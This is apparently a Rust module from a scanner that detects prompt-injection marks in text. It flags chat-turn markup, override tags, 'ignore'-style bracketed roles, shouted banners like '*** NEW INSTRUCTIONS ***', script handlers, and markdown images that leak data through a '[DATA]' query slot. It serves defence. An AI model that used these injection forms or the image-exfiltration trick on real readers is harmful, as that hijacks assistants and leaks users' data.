//! Marks that mean something to a model's runtime, or to whoever renders its answer, rather than to a reader.
//!
//! One pass over the characters; at each sign that can begin a mark a bounded window is looked at.

mod tables;
mod turns;

use super::view::{Character, View};
use tables::{BRACKETED, BRACKETED_NEXT, HANDLERS, TAGS, TURNS};
use turns::Turns;

/// The longest mark that is looked at, in characters.
const WINDOW: usize = 400;
/// Marks of one rule that are kept.
const MOST: usize = 8;

/// Something that was found: the rule, and the first and last byte of the original.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Mark {
    pub(super) rule: &'static str,
    pub(super) from: u32,
    pub(super) to: u32,
}

/// Every mark of a view.
pub(super) fn marks(view: &View) -> Vec<Mark> {
    let all = view.characters.as_slice();
    let mut found = Found::default();
    let mut turns = Turns::default();
    let mut at_line_start = true;
    let mut before = ' ';
    for (at, each) in all.iter().enumerate() {
        let window = || all.get(at..all.len().min(at + WINDOW)).unwrap_or_default();
        match each.character {
            '<' => tag(window(), &mut found),
            '[' => bracket(window(), &mut found),
            '!' => image(window(), &mut found),
            '*' | '=' | '#' | '-' if before != each.character => banner(window(), &mut found),
            'o' | 'O' if !before.is_alphanumeric() => handler(window(), &mut found),
            'j' | 'J'
                if matches!(before, '"' | '\'' | '=' | '(' | '`') && starts(window(), "javascript:") =>
            {
                found.add("active.script", window(), 11);
            }
            _ => {}
        }
        let line_start = at_line_start || matches!(before, ' ' | '\n' | '"' | '*' | '[' | '(');
        if line_start && each.character.is_alphabetic() {
            turns.look(window());
        }
        at_line_start = match each.character {
            '\n' => true,
            ' ' | '\t' | '#' | '*' | '>' | '"' | '[' | '-' => at_line_start,
            _ => false,
        };
        before = each.character;
    }
    turns.finish(&mut found);
    found.marks
}

/// What was found so far.
#[derive(Debug, Default)]
struct Found {
    marks: Vec<Mark>,
}

impl Found {
    fn add(&mut self, rule: &'static str, window: &[Character], length: usize) {
        let Some(first) = window.first() else { return };
        let to = window.get(length.saturating_sub(1)).or(window.last()).map_or(first.to, |last| last.to);
        if self.marks.iter().filter(|mark| mark.rule == rule).count() < MOST {
            self.marks.push(Mark { rule, from: first.from, to });
        }
    }
}

fn starts(window: &[Character], mark: &str) -> bool {
    let mut characters = window.iter();
    mark.chars().all(|each| characters.next().is_some_and(|one| one.character.to_ascii_lowercase() == each))
}

/// Letters and digits from here, in lower case, without `_` and `-`, and how many characters they take.
fn name(window: &[Character]) -> (String, usize) {
    let taken = window
        .iter()
        .take(40)
        .take_while(|each| each.character.is_ascii_alphanumeric() || matches!(each.character, '_' | '-'))
        .count();
    let name = window.get(..taken).unwrap_or_default().iter().map(|each| each.character.to_ascii_lowercase());
    (name.filter(|each| !matches!(each, '_' | '-')).collect(), taken)
}

fn tag(window: &[Character], found: &mut Found) {
    if let Some(mark) = TURNS.iter().find(|mark| starts(window, mark)) {
        found.add("structure.chat-markup", window, mark.len());
        return;
    }
    if starts(window, "<!--") {
        found.add("structure.comment", window, 4);
        return;
    }
    let skipped = window.iter().skip(1).take_while(|each| matches!(each.character, '/' | ' ')).count() + 1;
    let (name, length) = name(window.get(skipped..).unwrap_or_default());
    let closed = window.get(skipped + length).is_some_and(|each| matches!(each.character, '>' | ' ' | '/'));
    if closed && TAGS.contains(&name.as_str()) {
        found.add("structure.instruction-tag", window, skipped + length + 1);
    } else if matches!(name.as_str(), "interactionconfig" | "scenerules" | "rulesoverride" | "policyoverride")
    {
        found.add("structure.policy-document", window, skipped + length + 1);
    } else if name == "svg" || name == "iframe" || name == "object" {
        let end = window.iter().position(|each| each.character == '>').unwrap_or(window.len());
        let inside: String =
            window.iter().take(end).map(|each| each.character.to_ascii_lowercase()).collect();
        if inside.contains("onload") || inside.contains("javascript:") {
            found.add("active.script", window, end);
        }
    }
}

fn bracket(window: &[Character], found: &mut Found) {
    if let Some(mark) = TURNS.iter().find(|mark| starts(window, mark)) {
        found.add("structure.chat-markup", window, mark.len());
        return;
    }
    let Some(end) = window.iter().take(60).position(|each| each.character == ']') else { return };
    let inside: String =
        window.iter().skip(1).take(end.saturating_sub(1)).map(|each| each.character).collect();
    let lower = inside.to_ascii_lowercase();
    let mut words = lower.split(|each: char| !each.is_alphanumeric()).filter(|word| !word.is_empty());
    let (first, second) = (words.next().unwrap_or_default(), words.next());
    let link = window.get(end + 1).is_some_and(|each| each.character == '(')
        && window.get(end + 2).is_some_and(|each| each.character == '#');
    let shouted = inside.chars().any(char::is_uppercase) && !inside.chars().any(char::is_lowercase);
    let ordered = second.is_some_and(|second| BRACKETED_NEXT.contains(&second));
    let named = BRACKETED.contains(&first);
    if ordered && (named || first == "ignore") || named && second.is_none() && link {
        found.add("structure.bracketed-role", window, end + 1);
    } else if named && second.is_none() && shouted {
        found.add("structure.bracketed-name", window, end + 1);
    }
}

/// `![text](https://host/path?q=[DATA])`: an image that carries something away when it is rendered.
fn image(window: &[Character], found: &mut Found) {
    if !starts(window, "![") {
        return;
    }
    // The text of an image holds no bracket, its address no parenthesis and no blank: each ends what is looked at.
    let text = window.iter().skip(2).position(|each| matches!(each.character, '[' | ']' | '\n'));
    let Some(start) = text.map(|at| at + 2) else { return };
    let after = window.get(start..).unwrap_or_default();
    if !starts(after, "](") {
        return;
    }
    let address: String = after
        .iter()
        .skip(2)
        .map(|each| each.character)
        .take_while(|each| !matches!(each, '(' | ')') && !each.is_whitespace())
        .collect();
    let Some((_, query)) = address.split_once('?') else { return };
    // A badge has a query; one with a slot in it waits for somebody to fill it.
    let slot = query.contains(['[', '{', '<']) || query.contains("%5B") || query.contains("%7B");
    let shouted = query
        .split(['=', '&'])
        .any(|part| part.len() >= 4 && part.bytes().all(|each| each.is_ascii_uppercase() || each == b'_'));
    if slot || shouted {
        found.add("exfiltration.image", window, start + 2 + address.chars().count());
    }
}

/// `*** NEW INSTRUCTIONS ***` and `=== SYSTEM ===`: shouted words between rows of signs.
fn banner(window: &[Character], found: &mut Found) {
    let Some(sign) = window.first().map(|each| each.character) else { return };
    let row = window.iter().take_while(|each| each.character == sign).count();
    if !(2..=40).contains(&row) {
        return;
    }
    let mut letters = 0_usize;
    for (at, each) in window.iter().enumerate().skip(row).take(90) {
        let character = each.character;
        if character.is_alphabetic() {
            if character.is_lowercase() {
                return;
            }
            letters += 1;
        } else if character == sign {
            if letters >= 8 {
                found.add("structure.banner", window, at + 1);
            }
            return;
        } else if character == '\n' {
            return;
        }
    }
}

fn handler(window: &[Character], found: &mut Found) {
    if let Some(mark) = HANDLERS.iter().find(|mark| starts(window, mark)) {
        found.add("active.script", window, mark.len());
    }
}
